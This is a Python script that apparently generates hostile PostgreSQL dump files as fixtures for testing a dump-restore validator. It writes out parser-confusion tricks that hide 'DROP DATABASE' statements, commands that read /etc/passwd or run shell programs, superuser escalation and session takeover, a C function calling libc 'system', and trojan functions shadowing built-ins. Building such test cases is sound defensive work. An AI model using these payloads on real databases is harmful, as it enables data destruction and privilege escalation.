#!/usr/bin/env python3
"""Writes the hostile dumps beside it. Each tries to reach beyond its database; `victim` is another database."""
import pathlib

HERE = pathlib.Path(__file__).parent
HEADER = b"--\n-- PostgreSQL database dump\n--\n\nSET client_encoding = 'UTF8';\nCREATE TABLE public.t (a text);\n"
CLOSING = b"\n--\n-- PostgreSQL database dump complete\n--\n"
PAYLOAD = b"DROP DATABASE victim WITH (FORCE);"


def in_block(statement):
    """As the server's own language runs it: no reader of scripts sees it."""
    return b"DO $$ BEGIN EXECUTE '" + statement.replace(b"'", b"''") + b"'; END $$;\n"


# What readers of scripts and psql may understand differently.
FOOLING = {
    "comment_ended_by_return": b"--\r" + PAYLOAD + b"\n",
    "comment_after_comment": b"SELECT 1 /**/* 2; " + PAYLOAD + b"\n--*/\n",
    "table_called_stdin": b"COPY (SELECT 1 AS a FROM public.t AS stdin, (SELECT 1) AS x) TO stdout;\n"
    b"CREATE TABLE stdin (a int);\nCOPY (SELECT a FROM stdin) TO stdout;\n" + PAYLOAD + b"\n\\.\n",
    "rows_ended_by_two_returns": b"COPY public.t (a) FROM stdin;\n1\n\\.\r\r\n" + PAYLOAD + b"\n\\.\n",
    "strings_off_and_on": b"SET standard_conforming_strings = off;\nSET standard_conforming_strings = on;\n"
    b"SELECT 'a\\'; " + PAYLOAD + b" SELECT ';';\n",
    "strings_by_function": b"SELECT set_config('standard_conforming_strings', 'off', false);\n"
    b"SELECT 'a\\'' || '; ', $$';$$; " + PAYLOAD + b"\n",
    "strings_by_hidden_function": b"SELECT set_config('standard_conforming_' || 'strings', 'off', false);\n"
    b"SELECT 'a\\'; SELECT $q$'; " + PAYLOAD + b" --$q$;\n",
    "sjis": b"SET client_encoding = 'SJIS';\nSELECT '\x83\\'; " + PAYLOAD + b" --';\n",
    "sjis_by_function": b"SELECT set_config('client_encoding', 'SJIS', false);\nSELECT E'\x83\\'; " + PAYLOAD + b" --';\n",
    "drop_in_a_load_that_fails": b"--\rDROP DATABASE main WITH (FORCE);\n",
    "program_of_psql": b"SELECT set_config('standard_conforming_' || 'strings', 'off', false);\n"
    b"SELECT 'a\\'; SELECT $q$';\n\\! touch /tmp/was-here\n--$q$;\n",
    "other_database": b"SELECT set_config('standard_conforming_' || 'strings', 'off', false);\n"
    b"SELECT 'a\\'; SELECT $q$';\n\\connect victim\nDROP TABLE precious;\n--$q$;\n",
    "commit": b"SELECT set_config('standard_conforming_' || 'strings', 'off', false);\n"
    b"SELECT 'a\\'; SELECT $q$'; COMMIT; " + PAYLOAD + b" --$q$;\n",
}

# What no reader can find: only the server can refuse it.
BEYOND = {
    "program": b"COPY public.t FROM PROGRAM 'touch /tmp/was-here; echo 1';\n",
    "file_written": b"COPY public.t TO '/tmp/was-here';\n",
    "file_read": b"COPY public.t FROM '/etc/passwd';\n",
    "file_function": b"SELECT pg_read_file('/etc/passwd');\n",
    "file_exported": b"SELECT lo_from_bytea(77, 'x'), lo_export(77, '/tmp/was-here');\n",
    "role_created": in_block(b"CREATE ROLE evil SUPERUSER"),
    "role_altered": in_block(b"ALTER ROLE chief PASSWORD 'x'"),
    "role_raised": in_block(b"ALTER ROLE CURRENT_USER SUPERUSER"),
    "role_granted": in_block(b"GRANT pg_execute_server_program TO CURRENT_USER"),
    "role_taken": in_block(b"SET ROLE chief"),
    "session_taken": in_block(b"SET SESSION AUTHORIZATION chief"),
    "session_by_function": b"SELECT set_config('session_authorization', 'chief', false);\n",
    "database_renamed": in_block(b"ALTER DATABASE victim RENAME TO gone"),
    "database_closed": in_block(b"ALTER DATABASE victim CONNECTION LIMIT 0"),
    "database_revoked": in_block(b"ALTER DATABASE victim OWNER TO CURRENT_USER"),
    "own_database_set": in_block(b"ALTER DATABASE main SET search_path = evil"),
    "connections_ended": b"SELECT 1 / (count(pg_terminate_backend(pid)) - count(*) + 1) FROM pg_stat_activity "
    b"WHERE usename = 'chief';\n",
    "settings_read_again": b"SELECT pg_reload_conf();\n",
    "slot": b"SELECT pg_create_physical_replication_slot('evil');\n",
    "extension_by_block": in_block(b"CREATE EXTENSION dblink"),
    "function_in_c": b"CREATE FUNCTION e(int) RETURNS int LANGUAGE c AS 'libc.so.6', 'system';\n",
    "catalogue": b"UPDATE pg_catalog.pg_authid SET rolsuper = true;\n",
    "publication_by_block": in_block(b"CREATE PUBLICATION evil FOR ALL TABLES"),
    "event_trigger_by_block": b"CREATE FUNCTION public.f() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';\n"
    + in_block(b"CREATE EVENT TRIGGER evil ON ddl_command_end EXECUTE FUNCTION public.f()"),
}

# Loads well: whoever looks at the database afterwards must not run what it made.
TRAPS = b"".join(
    b"CREATE FUNCTION public." + signature + b" RETURNS " + returns + b" LANGUAGE plpgsql AS $f$ BEGIN\n"
    b"  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN CREATE ROLE evil SUPERUSER; END IF;\n"
    b"  RETURN " + value + b"; END $f$;\n"
    for signature, returns, value in [
        (b"starts_with(name, text)", b"bool", b"false"),
        (b"format(text, name, name, name)", b"text", b"'SELECT 1'"),
        (b"format(text, name, name)", b"text", b"'SELECT 1'"),
        (b"differs(name, text)", b"bool", b"true"),
        (b"pg_get_userbyid(oid)", b"name", b"'chief'::name"),
    ]
) + (
    b"CREATE OPERATOR public.<> (LEFTARG = name, RIGHTARG = text, FUNCTION = public.differs);\n"
    b"CREATE OPERATOR public.!~~ (LEFTARG = name, RIGHTARG = text, FUNCTION = public.differs);\n"
)

for kind, dumps in [("fooling", FOOLING), ("beyond", BEYOND), ("trap", {"functions": TRAPS})]:
    for name, text in dumps.items():
        (HERE / f"{kind}.{name}.sql").write_bytes(HEADER + text + CLOSING)
